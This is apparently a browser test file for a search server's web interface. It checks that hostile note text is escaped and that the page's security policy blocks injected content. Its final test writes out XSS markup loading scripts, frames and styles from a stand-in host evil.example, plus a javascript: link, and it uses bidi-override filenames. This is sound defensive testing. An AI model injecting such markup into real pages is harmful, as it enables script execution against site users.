// SPDX-License-Identifier: GPL-3.0-or-later
//
// Notes that someone wrote to hurt (hostile_notes.js) in a real browser. There are two defences, and
// each is tested without the other: all text is escaped, and the policy of the page runs no code in it.
import assert from "node:assert/strict";
import { execFileSync, spawn } from "node:child_process";
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { createInterface } from "node:readline";
import { after, before, describe, test } from "node:test";
import { close, launch, pause, until, urlOf, visit } from "./browser.js";
import { attack, attackInPath, source, writeHostileNotes } from "./hostile_notes.js";

const home = mkdtempSync(join(tmpdir(), "hostile-"));
let server, base, hits;

before(async () => {
  const folders = ["notes", "others"].map((name) => join(home, name));
  for (const folder of folders) mkdirSync(folder);
  writeHostileNotes(folders[0]);
  writeFileSync(join(folders[1], "zebra.md"), "# zebra\n");  // of several sources the name is shown
  const index = join(home, "index");
  execFileSync("csindex", ["--index", index, "--report", "none", `${source}=${folders[0]}`, folders[1]]);
  server = spawn("cssearchd", ["--index", index, "--listen", "127.0.0.1:0"],
    { stdio: ["ignore", "ignore", "pipe"] });
  for await (const line of createInterface({ input: server.stderr })) {
    base = line.match(/listening on (.*)/)?.[1];
    if (base) break;
  }
  ({ hits } = await (await fetch(`${base}/api/v1/search?q=zebra&limit=50`)).json());
  await launch();
});

after(async () => {
  await close();
  server.kill();
  rmSync(home, { recursive: true });
});

const inUrl = (words) => encodeURIComponent(words).replaceAll("'", "%27");

// What came of the words on the page: code that ran; elements with code, or that fetch; links that
// lead to code; characters that turn text around.
const harm = (page) => page.evaluate(() => {
  const isElement = (element) => element.matches(
    "img, object, embed, iframe, style, base, script:not([src^='/page.js?'])") ||
    [...element.attributes].some(({ name }) => name.startsWith("on"));
  const leadsToCode = (link) => link.origin !== location.origin && !/^(https?|mailto):/.test(link.href);
  return [
    ...window.ran,
    ...[...document.querySelectorAll("*")].filter(isElement).map((element) => element.outerHTML),
    ...[...document.links].filter(leadsToCode).map((link) => link.href),
    ...(document.contentType === "text/html" &&  // others are for programs
      document.documentElement.outerHTML.match(/[\u202A-\u202E\u2066-\u2069]/g) || []),
  ];
});

// Opens the page without its policy; nothing may come of the words, be asked of others, or pop up.
async function unharmed(path, work = () => {}, options = {}) {
  const found = [];
  const prepare = async (page) => {
    page.on("dialog", (dialog) => { found.push(dialog.message()); dialog.dismiss(); });
    page.on("popup", (other) => found.push(`window ${other.url()}`));
    page.on("request", (request) => {
      const own = new URL(request.url()).origin === base && request.resourceType() !== "image";
      if (!own) found.push(request.url());
    });
    await page.addInitScript(() => { window.ran = []; });
  };
  await visit(base + path, async (page) => {
    await work(page);
    await pause(50);  // for what may run
    found.push(...await harm(page));
  }, { bypassCSP: true, prepare, ...options });
  assert.deepEqual(found, [], path);
}

async function reads(page, ...fields) {
  const text = await page.evaluate(() => document.body.textContent);
  for (const words of fields) assert.ok(text.includes(words), `${words} is not in ${text}`);
}

describe("notes that hurt", () => {
  test("are text in results and facets", () => unharmed("/?q=zebra&limit=50", (page) => reads(page,
    attack("title"), attack("list"), attack("row"), attack("html-title"),
    attack("author"), attack("row-author"), attack("category"), attack("row-category"),
    attack("tag"), attack("row-venue"), attackInPath("file"), "zebra <U+202E>eltit")));

  test("and on the start page", () => unharmed("/", (page) => reads(page,
    attack("category"), attack("row-category"))));

  const documents = {
    title: [attack("author"), attack("category"), attack("paragraph"), attack("heading"),
      attack("code"), attack("block"), attack("cell"), attackInPath("folder"), attackInPath("file"),
      source, "<U+202E>gnp.exe<U+2066> ␇"],
    list: [attack("section"), attack("row"), attack("row-author")],
    row: [attack("row-author"), attack("row-category"), attack("remark")],
    "html-title": [attack("html-file")],
    bytes: [],
  };
  for (const [name, fields] of Object.entries(documents)) {
    test(`and on the page of a document: ${name}`, () => {
      const { key } = hits.find(({ title }) => title.includes(`${name} "'>`));
      return unharmed(`/document/${inUrl(key)}?q=zebra`, (page) => reads(page, ...fields));
    });
  }

  for (const typed of ["zebra title", "author", "category", "zebratag"]) {
    test(`and in suggestions: ${typed}`, () => unharmed("/", async (page) => {
      await page.locator("#q").pressSequentially(typed);
      await page.locator("#suggestions li").first().waitFor();
      assert.deepEqual(await harm(page), []);
      await page.locator("#suggestions li").first().click();
      await page.locator(".hit").first().waitFor();
    }));
  }

  test("and as filters", () => unharmed("/?q=zebra", async (page) => {
    await page.locator(".facets label", { hasText: attack("row-category") }).click();
    await until(() => urlOf(page).includes(attack("row-category")), true);
    await until(async () => (await page.locator(".chips").innerText()).includes(attack("row-category")), true);
  }));

  for (const name of ["q", "category", "source", "path", "kind"]) {
    test(`and so are words of the URL: ${name}`, () => unharmed(
      `/?${name === "q" ? "" : "q=zebra&"}${name}=${inUrl(attack("asked"))}`,
      () => {}, { mayFail: true }));
  }

  for (const path of ["/api/v1/search?q=zebra", "/feed.atom?q=zebra"]) {
    test(`and what is no page is none: ${path}`, () => unharmed(path, () => {}, { mayFail: true }));
  }
});

// As if nothing had been escaped: what runs and is fetched is `expected`.
async function inject(markup, expected, options) {
  const fetched = [];
  const prepare = async (page) => {
    await page.addInitScript(() => { window.ran = []; });
    await page.route("https://evil.example/**", (route) => {
      fetched.push(route.request().url());
      return route.fulfill({ body: "ran.push('fetched')", contentType: "text/javascript" });
    });
    await page.route(`${base}/`, async (route) => {
      const response = await route.fetch();
      const body = (await response.text()).replace("<body>", `<body>${markup}`);
      return route.fulfill({ response, body });
    });
  };
  await visit(`${base}/`, async (page) => {
    await page.locator("#trap").dispatchEvent("click");
    await pause(200);
    await until(async () => {
      const ran = new Set(await page.evaluate(() => window.ran));
      return [...ran].sort().concat(fetched.map((url) => new URL(url).pathname).sort());
    }, expected);
  }, { mayFail: true, prepare, ...options });
}

test("the policy runs and fetches nothing, even if there were markup", async () => {
  const markup = `<script src="https://evil.example/script"></script>` +
    `<iframe srcdoc="<script>parent.ran.push('frame')</script>"></iframe>` +
    `<link rel="stylesheet" href="https://evil.example/style">` +
    `<img src="https://evil.example/picture"><iframe src="https://evil.example/frame"></iframe>` +
    `<a id="trap" href="javascript:ran.push('link')">link</a>${attack("code")}`;
  const all = ["code", "fetched", "frame", "link", "/frame", "/picture", "/script", "/style"];
  await inject(markup, all, { bypassCSP: true });  // each of them works where there is no policy
  await inject(markup, []);
});
